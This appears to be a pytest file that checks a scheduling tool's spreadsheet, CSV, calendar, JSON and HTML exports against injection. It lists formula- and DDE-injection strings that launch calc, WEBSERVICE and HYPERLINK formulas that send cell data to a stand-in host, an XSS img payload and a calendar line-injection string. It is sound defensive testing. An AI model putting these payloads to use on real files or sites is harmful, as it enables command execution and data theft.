"""No export turns a name into a formula, a link or markup, and none changes a number."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from dataclasses import replace
from datetime import date
from html.parser import HTMLParser

import icalendar
import openpyxl
import pandas as pd
import pytest

from tests.io.test_write import make
from wfm.core.calendars import Opening
from wfm.core.types import Requirement, Schedule, Violation
from wfm.core.work import Campaign
from wfm.io import WRITERS, agent_feed, csv_bytes, read_schedule, schedule_bytes

LIVE = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
PAYLOADS = (
    "=1+1",
    "=SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x.y?\"&A1,\"click\")",
    "=IMPORTXML(\"http://x.y\",\"//a\")",
    "=WEBSERVICE(\"http://x.y/\"&B2)",
    "+1+1",
    "+cmd|' /C notepad'!A0",
    "-2+3",
    "-cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "@cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "''=1+1",
    "\"=1+1\"",
    "\",=1+1,\"",
    "a\n=1+1",
    "a\r\n=1+1",
    "a;=1+1",
    "a,=1+1",
    "a\t=1+1",
    "＝1+1",
    "＋1＋1",
    "－2＋3",
    "＠SUM(1,1)",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
    "http://x.y/=1",
    "<img src=x onerror=alert(1)>",
    "{=1+1}",
    "END:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:x",
)  # fmt: skip


def hostile(text: str) -> Schedule:
    """A schedule in which every word is the payload, and the numbers are known."""
    made = make(("a1", text))
    frame = made.frame.copy()
    frame.loc[frame["activity"] == "inbound", "queue"] = text
    frame.loc[frame["activity"] == "outbound", "queue"] = text
    totals = made.totals.assign(name=text, team=text, contract=text, cost=[-80.25, -1.5])
    return replace(
        made,
        frame=frame,
        coverage=made.coverage.assign(queue=text),
        outbound=made.outbound.assign(campaign=text, target_h=-20.5),
        totals=totals,
        violations=(Violation(text, text, text, text),),
    )


def written(text: str, suffix: str) -> bytes:
    """One export with everything that a planner may have typed."""
    made = hostile(text)
    frame = made.coverage[["start", "queue"]].assign(agents=2, scheduled=3, shrinkage=0.1)
    campaign = Campaign(text, text, Opening.parse("24/7"), 20.0, deadline=date(2026, 3, 6))
    notes = pd.DataFrame({text: [text], "statement": [text], "why": [text], "paid_h": [-2.5]})
    return schedule_bytes(
        made,
        suffix,
        requirement=Requirement(frame.assign(assumed=text, flags=text), made.interval),
        campaigns=[campaign],
        project=text,
        sheets={"Notes": notes},
    )


def _xlsx(data: bytes, text: str) -> None:
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c for c in cells if c.data_type == "f" or c.hyperlink]
    pack = zipfile.ZipFile(io.BytesIO(data))
    assert not [n for n in pack.namelist() if "externalLink" in n or "connections" in n]
    sheets = [pack.read(n) for n in pack.namelist() if n.startswith("xl/worksheets/sheet")]
    assert not [xml for xml in sheets if b"<f>" in xml or b"<f " in xml]
    totals = book["Agents"]
    heads = [c.value for c in totals[1]]
    costs = [totals.cell(r, heads.index("Cost") + 1).value for r in (2, 3)]
    assert costs == [-80.25, -1.5]
    assert book["Notes"].cell(2, 4).value == -2.5


def _csv(data: bytes, text: str) -> None:
    rows = list(csv.DictReader(io.StringIO(data.decode(), newline="")))
    assert len(rows) == len(hostile(text).frame)
    for row in rows:
        assert not [v for k, v in row.items() if v.startswith(LIVE)]
    spread = csv_bytes(pd.DataFrame({text: [text], "n": [-2.5], "m": [-7]}))
    again = list(csv.reader(io.StringIO(spread.decode(), newline="")))
    assert not [cell for line in again for cell in line[:1] if cell.startswith(LIVE)]
    assert again[1][1:] == ["-2.5", "-7"]


def _json(data: bytes, text: str) -> None:
    json.loads(data)
    path = io.BytesIO(data)
    again = read_schedule(path)
    pd.testing.assert_frame_equal(again.frame, hostile(text).frame)
    assert again.totals["cost"].tolist() == [-80.25, -1.5]


def _events(data: bytes) -> list[icalendar.Event]:
    assert data.count(b"BEGIN:VEVENT") == data.count(b"END:VEVENT")
    return list(icalendar.Calendar.from_ical(data).walk("VEVENT"))


def _ics(data: bytes) -> None:
    events = _events(data)
    assert len(events) in (1, 2)
    for event in events:
        assert str(event["summary"]).startswith("Shift ")
        assert (event["dtend"].dt - event["dtstart"].dt).total_seconds() in (4 * 3600, 6 * 3600)
    for line in data.decode().replace("\r\n", "\n").replace("\n ", "").split("\n"):
        assert not line.startswith(LIVE), line


def _zip(data: bytes, text: str) -> None:
    pack = zipfile.ZipFile(io.BytesIO(data))
    assert len(pack.namelist()) == 2
    for name in pack.namelist():
        assert not name.startswith(LIVE)
        assert not set(name) & set('/\\:*?"<>|\t\r\n')
        _ics(pack.read(name))
    _ics(agent_feed([hostile(text)], text, project=text))


class _Cells(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.texts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.texts.append("" if tag != "style" else "style: ")

    def handle_data(self, data: str) -> None:
        if self.texts:
            self.texts[-1] += data


def _html(data: bytes, text: str) -> None:
    page = _Cells()
    page.feed(data.decode())
    assert not page.tags & {"img", "script", "a", "link", "iframe", "form", "svg", "object"}
    assert not [cell for cell in page.texts if cell.strip("\n").startswith(LIVE)], page.texts
    assert "4.0" in {cell.strip() for cell in page.texts}  # paid hours, as they were


CHECKS = {".xlsx": _xlsx, ".csv": _csv, ".json": _json, ".zip": _zip, ".html": _html}


def test_every_export_is_asked() -> None:
    assert set(CHECKS) == set(WRITERS)
    assert len(PAYLOADS) >= 30


@pytest.mark.parametrize("suffix", sorted(WRITERS))
@pytest.mark.parametrize("text", PAYLOADS)
def test_no_export_runs_what_somebody_typed(text: str, suffix: str) -> None:
    CHECKS[suffix](written(text, suffix), text)
